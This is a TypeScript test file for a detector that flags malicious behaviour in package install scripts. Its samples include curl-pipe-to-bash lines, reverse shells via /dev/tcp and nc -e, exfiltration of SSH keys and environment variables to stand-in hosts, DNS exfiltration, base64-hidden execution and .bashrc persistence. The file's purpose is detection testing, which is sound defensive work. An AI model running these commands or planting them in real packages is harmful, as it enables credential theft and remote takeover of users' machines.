import assert from 'node:assert/strict'
import { test } from 'node:test'
import { findMisdeeds, findScriptFiles } from './install-scripts.ts'

const dropped = `https://webhook${'.site'}/1`

test('what no installing needs is told', () => {
  for (const [text, what] of [
    ['curl -fsSL https://x.example/a.sh | sudo bash', 'fetches something and runs it'],
    ['wget -q https://x.example/a -O /tmp/a && chmod +x /tmp/a && /tmp/a', 'fetches something and runs it'],
    ['sh -c "$(curl -fsSL https://x.example/a.sh)"', 'fetches something and runs it'],
    ['bash -i >& /dev/tcp/1.2.3.4/9 0>&1', 'opens a shell to elsewhere'],
    ['nc -e /bin/sh x.example 9', 'opens a shell to elsewhere'],
    [`fetch("${dropped}", { method: "POST" })`, 'speaks with a place where stolen things are dropped'],
    ['require("https").request(o).end(fs.readFileSync(h + "/.ssh/id_rsa"))', 'reads credentials and speaks with the network'],
    ['requests.post(url, json=dict(os.environ))', 'sends the environment away'],
    ['https.request(o).end(JSON.stringify(process.env))', 'sends the environment away'],
    ['eval(Buffer.from("aGVsbG8=", "base64").toString())', 'hides what it runs'],
    ['exec(base64.b64decode("aGk="))', 'hides what it runs'],
    ['echo aGk= | base64 -d | sh', 'hides what it runs'],
    ['nslookup $(whoami).x.example', 'sends something out through names that it asks for'],
    ['echo "evil" >> ~/.bashrc', 'makes itself start again'],
    [`const s = "${'\\x61'.repeat(50)}"`, 'hides what it does'],
  ] as const) assert.ok(findMisdeeds(text).some((each) => each.what === what), `${text}: ${JSON.stringify(findMisdeeds(text))}`)
})

test('usual scripts do nothing of the kind', () => {
  for (const text of [
    'node-gyp rebuild', 'prebuild-install || node-gyp rebuild', 'husky', 'tsc -p . && cp -r assets dist', 'node scripts/build.mjs', 'patch-package', 'electron-builder install-app-deps', 'npx playwright install', 'cargo build --release', 'echo "thanks for installing"', 'curl -fsSLO https://x.example/tool.tgz', 'exec("git rev-parse HEAD", callback)',
    'const file = await download(`https://releases.example/${version}.tgz`)\nfs.chmodSync(file, 0o755)\nexecFileSync(file, ["--version"])', 'const token = process.env.npm_config_token', 'https.get(`https://${host}:${port}`)', 'if (process.env.CI) process.exit(0)\nhttps.get(url, save)', 'fetch("http://127.0.0.1:9/health")',
    'from setuptools import setup\nsetup(name="x", long_description=open("README.md").read())', 'subprocess.check_call(["make", "-C", "ext"])', 'println!("cargo:rustc-link-lib=z");', 'Buffer.from(hash, "hex")', 'read("/etc/os-release")',
  ]) assert.deepEqual(findMisdeeds(text), [], text)
})

test('the files that a command line runs', () => {
  assert.deepEqual(findScriptFiles('node ./scripts/install.js && python3 setup.py build'), ['scripts/install.js', 'setup.py'])
  assert.deepEqual(findScriptFiles('node lib/post'), ['lib/post', 'lib/post.js', 'lib/post/index.js'])
  assert.deepEqual(findScriptFiles('./bin/setup.sh; tsc'), ['bin/setup.sh'])
  assert.deepEqual(findScriptFiles('node ../../outside.js; husky'), [])
})

test('what is made to take long takes no longer than its length', () => {
  for (const text of ['curl '.repeat(80_000), '_0x1234 '.repeat(50_000), 'socket '.repeat(60_000), 'A'.repeat(400_000), `eval(${'('.repeat(200_000)}`, 'Buffer.from('.repeat(30_000), 'JSON.stringify('.repeat(25_000)]) assert.ok(findMisdeeds(text).length < 10)
})
